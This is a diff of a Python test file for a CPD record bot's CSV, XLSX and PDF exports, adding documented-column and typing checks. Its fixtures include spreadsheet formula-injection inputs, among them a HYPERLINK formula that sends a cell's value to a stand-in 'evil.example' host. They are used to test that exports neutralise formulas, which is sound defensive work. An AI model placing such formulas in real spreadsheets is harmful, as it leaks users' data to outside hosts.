@@ -7,10 +7,11 @@ import io
 import json
 import uuid
 import zipfile
-from collections.abc import Iterator
+from collections.abc import Iterable, Iterator
 from datetime import date, datetime
 from decimal import Decimal
 from pathlib import Path
+from typing import Any, BinaryIO, cast
 from xml.etree import ElementTree
 
 import pytest
@@ -33,9 +34,17 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SU
             "\t=1", "\r=1", "\n=1", "  =1+1"]  # fmt: skip
 HOME = "https://cpd.example.org"
 SECTIONS = (("What happened", "Пациент с сепсисом, лактат 4"), ("What I learned", "Repeat at 2 h"))
+# The CSV and XLSX columns as the README documents them, spelled out here rather than read
+# from bot/exports/columns.py, so that dropping, renaming or reordering one fails a test.
+DOCUMENTED_COLUMNS = (
+    "record_id", "user_id", "user_name", "activity_date", "title", "activity_type",
+    "activity_name", "category", "category_name", "minutes", "hours", "credits", "unit",
+    "framework", "source", "ai_assisted", "explanation", "tags", "recorded_at",
+)  # fmt: skip
+WITH_REFLECTION = (*DOCUMENTED_COLUMNS, "reflection")  # the text, last, only when included
 
 
-def record(**changes: object) -> RecordRow:
+def record(**changes: Any) -> RecordRow:
     base = RecordRow(
         record_id=1,
         user_id=424242,
@@ -107,16 +116,25 @@ def test_text_with_a_safe_first_character_is_unchanged(value: str) -> None:
 # --- shared columns ------------------------------------------------------------------------
 
 
+def test_the_columns_are_the_documented_ones() -> None:
+    assert COLUMNS == DOCUMENTED_COLUMNS
+
+
 def test_cells_follow_the_columns() -> None:
     values = cells(record(), with_reflection=True)
-    assert len(values) == len(COLUMNS) + 1
-    named = dict(zip(COLUMNS, values, strict=False))
-    assert named["hours"] == 1.5
-    assert named["activity_date"] == date(2024, 5, 1)
-    assert named["recorded_at"] == "2024-05-01T09:30:15Z"
-    assert values[-1] == (
-        "What happened: Пациент с сепсисом, лактат 4\n\nWhat I learned: Repeat at 2 h"
-    )
+    # Each documented column holds its own value: a swap of two columns fails here too.
+    assert dict(zip(WITH_REFLECTION, values, strict=True)) == {
+        "record_id": 1, "user_id": 424242, "user_name": "Мария Иванова",
+        "activity_date": date(2024, 5, 1), "title": "Чтение: сепсис у взрослых",
+        "activity_type": "reading", "activity_name": "Reading, podcast or e-learning",
+        "category": "clinical", "category_name": "Клиническая практика", "minutes": 90,
+        "hours": 1.5, "credits": Decimal("1.5"), "unit": "credit", "framework": "ru_nmo",
+        "source": "reflection", "ai_assisted": True,
+        "explanation": "1 credit per hour, capped at 50", "tags": "sepsis icu",
+        "recorded_at": "2024-05-01T09:30:15Z",
+        "reflection": "What happened: Пациент с сепсисом, лактат 4\n\nWhat I learned: Repeat at 2 h",
+    }  # fmt: skip
+    assert len(cells(record(), with_reflection=False)) == len(DOCUMENTED_COLUMNS)
 
 
 # --- CSV -----------------------------------------------------------------------------------
@@ -135,7 +153,7 @@ def csv_of(rows: list[RecordRow], with_reflection: bool) -> str:
 def test_csv_header_and_values() -> None:
     rows = sample()
     text = csv_of(rows, with_reflection=False)
-    assert text.splitlines()[0].split(",") == list(COLUMNS)
+    assert text.splitlines()[0].split(",") == list(DOCUMENTED_COLUMNS)
     assert text.endswith("\r\n")
     parsed = read_csv(text)
     assert len(parsed) == len(rows)
@@ -170,7 +188,9 @@ def test_csv_cells_never_start_a_formula() -> None:
 
 
 def test_csv_reflection_column() -> None:
-    parsed = read_csv(csv_of(sample()[:2], with_reflection=True))
+    text = csv_of(sample()[:2], with_reflection=True)
+    assert text.splitlines()[0].split(",") == list(WITH_REFLECTION)
+    parsed = read_csv(text)
     assert parsed[0]["reflection"] == (
         "What happened: Пациент с сепсисом, лактат 4\n\nWhat I learned: Repeat at 2 h"
     )
@@ -231,7 +251,7 @@ def sheets_of(data: bytes) -> dict[str, list[tuple[object, ...]]]:
 def test_xlsx_values_are_typed() -> None:
     rows = sample()
     (records,) = sheets_of(xlsx_of(rows, with_reflection=True)).values()
-    assert records[0] == (*COLUMNS, "reflection")
+    assert records[0] == WITH_REFLECTION
     assert len(records) == len(rows) + 1
     by_id = {line[0]: dict(zip(records[0], line, strict=True)) for line in records[1:]}
     first = by_id[1]
@@ -283,7 +303,8 @@ def test_xlsx_package_is_well_formed() -> None:
 def test_xlsx_cuts_text_at_excels_cell_limit() -> None:
     long = (("Notes", "ё" * 40_000),)
     (records,) = sheets_of(xlsx_of([record(reflection=long)], with_reflection=True)).values()
-    assert len(records[1][-1]) == xlsx_export.CELL_CHARS
+    cell = records[1][-1]
+    assert isinstance(cell, str) and len(cell) == xlsx_export.CELL_CHARS
 
 
 @pytest.mark.parametrize(("count", "sheets"), [(0, [0]), (3, [3]), (6, [3, 3]), (7, [3, 3, 1])])
@@ -295,7 +316,7 @@ def test_xlsx_continues_on_a_new_sheet(
     book = sheets_of(xlsx_of(rows, with_reflection=False))
     assert [len(lines) - 1 for lines in book.values()] == sheets
     assert list(book)[:2] == ["Records", "Records 2"][: len(sheets)]
-    assert all(lines[0] == COLUMNS for lines in book.values())
+    assert all(lines[0] == DOCUMENTED_COLUMNS for lines in book.values())
     ids = [line[0] for lines in book.values() for line in lines[1:]]
     assert ids == list(range(count))
 
@@ -316,7 +337,8 @@ class _Pipe(io.RawIOBase):
 
 def test_xlsx_to_an_unseekable_stream_and_to_a_path(tmp_path: Path) -> None:
     pipe = _Pipe()
-    assert write_xlsx(sample(), pipe, with_reflection=False) == len(sample())
+    # A raw stream, not typed as BinaryIO, yet all the zip writer needs: that is the point.
+    assert write_xlsx(sample(), cast(BinaryIO, pipe), with_reflection=False) == len(sample())
     assert len(sheets_of(bytes(pipe.data))["Records"]) == len(sample()) + 1
     path = tmp_path / "records.xlsx"
     write_xlsx(iter(sample()), path, with_reflection=False)
@@ -326,7 +348,7 @@ def test_xlsx_to_an_unseekable_stream_and_to_a_path(tmp_path: Path) -> None:
 # --- PDF -----------------------------------------------------------------------------------
 
 
-def portfolio(entries: list[RecordRow], language: str = "en") -> Portfolio:
+def portfolio(entries: Iterable[RecordRow], language: str = "en") -> Portfolio:
     return Portfolio(
         language=language,
         name="Иванова Мария Петровна",
